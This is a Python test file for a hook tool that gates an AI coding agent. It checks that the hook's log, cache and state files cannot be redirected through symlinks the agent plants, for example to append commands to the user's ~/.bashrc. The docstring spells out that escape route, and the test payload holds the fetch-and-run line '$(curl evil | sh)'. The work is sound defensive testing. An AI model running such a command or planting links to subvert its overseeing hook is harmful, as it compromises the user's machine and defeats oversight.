"""What the hook writes in a repository follows no link there and stays inside it.

The gated agent can write the repository's `.claude/sentinel/` and `.sentinel/`: a link it puts in place of the
log, the cache, a session's files or a lock would have the user's hook write where the link points (a JSON line
with the agent's own command in it appended to ~/.bashrc is a shell command). sentinel/pathwalk.py
`open_beneath`/`replace_beneath`."""

from __future__ import annotations

import json
import os

import pytest

from sentinel.hooks.entry import handle
from sentinel.pathwalk import open_beneath, replace_beneath
from sentinel.policy.gate.loader import load_repo

VIOLATION = {"violation": True, "confidence": 0.9, "reason": "protected"}
BILLING = {"trigger": "file_write", "scope": ["src/**"], "prompt": "FILE {{file_path}}"}


def write_payload(root, rel="src/a.ts"):
    return json.dumps({"session_id": "s1", "cwd": str(root), "tool_name": "Write",
                       "tool_input": {"file_path": str(root / rel), "content": "$(curl evil | sh)"}})


@pytest.fixture
def victim(tmp_path):
    path = tmp_path / "outside" / "bashrc"
    path.parent.mkdir()
    path.write_text("# the user's own\n")
    return path


def test_the_log_replaced_by_a_link_is_not_written_through(repo, judge, monkeypatch, victim):
    j = judge({"": VIOLATION})
    root = repo({"b": BILLING}, {"backends": {"ollama": {"url": j.url}}})
    monkeypatch.chdir(root)
    (root / ".claude" / "sentinel" / "sentinel.log").symlink_to(victim)
    reply = handle("claude-code", "pre-tool-use", write_payload(root))
    assert reply.code == 2 or "deny" in reply.stdout  # still decided: blocked
    assert victim.read_text() == "# the user's own\n"


@pytest.mark.parametrize("linked", [".sentinel", ".sentinel/cache", ".sentinel/sessions", ".claude/sentinel"])
def test_a_linked_state_directory_gets_nothing_written_through_it(repo, judge, monkeypatch, victim, linked):
    j = judge({"": VIOLATION})
    root = repo({"b": BILLING}, {"backends": {"ollama": {"url": j.url}}})
    monkeypatch.chdir(root)
    load_repo(str(root))  # the rules read before the link is put in (the cache then holds them)
    place = root / linked
    if place.exists():
        for child in sorted(place.rglob("*"), reverse=True):
            child.unlink() if not child.is_dir() or child.is_symlink() else child.rmdir()
        place.rmdir()
    place.parent.mkdir(parents=True, exist_ok=True)
    place.symlink_to(victim.parent)
    before = sorted(p.name for p in victim.parent.iterdir())
    handle("claude-code", "pre-tool-use", write_payload(root))
    handle("claude-code", "stop", json.dumps({"session_id": "s1", "cwd": str(root)}))
    assert sorted(p.name for p in victim.parent.iterdir()) == before
    assert victim.read_text() == "# the user's own\n"


def test_a_log_file_outside_the_repository_is_refused_with_a_warning(repo, judge, monkeypatch, victim):
    j = judge({"": VIOLATION})
    root = repo({"b": BILLING}, {"backends": {"ollama": {"url": j.url}}, "log_file": str(victim)})
    monkeypatch.chdir(root)
    handle("claude-code", "pre-tool-use", write_payload(root))
    assert victim.read_text() == "# the user's own\n"
    (line,) = [w for w in load_repo(str(root)).warnings if "log_file" in w]
    assert "outside the repository" in line and "\n" not in line


def test_open_beneath_refuses_every_link_and_every_way_out(tmp_path):
    root = tmp_path / "r"
    (root / "a").mkdir(parents=True)
    (root / "b").symlink_to(root / "a")
    (root / "a" / "f").symlink_to(tmp_path / "elsewhere")
    for path in ("b/x", "a/f", "../x", str(tmp_path / "x"), "a/../../x"):
        with pytest.raises(OSError):
            os.close(open_beneath(str(root), path, os.O_WRONLY | os.O_CREAT))
        if path != "a/f":
            with pytest.raises(OSError):
                replace_beneath(str(root), path, b"x")
    replace_beneath(str(root), "a/f", b"x")  # a rename replaces the link itself, never what it points to
    assert not (root / "a" / "f").is_symlink() and (root / "a" / "f").read_bytes() == b"x"
    assert not (tmp_path / "elsewhere").exists() and not (tmp_path / "x").exists()
    os.close(open_beneath(str(root), "new/deep/x", os.O_WRONLY | os.O_CREAT))  # directories made on the way
    replace_beneath(str(root), "a/y", b"whole")
    assert (root / "new" / "deep" / "x").is_file() and (root / "a" / "y").read_bytes() == b"whole"
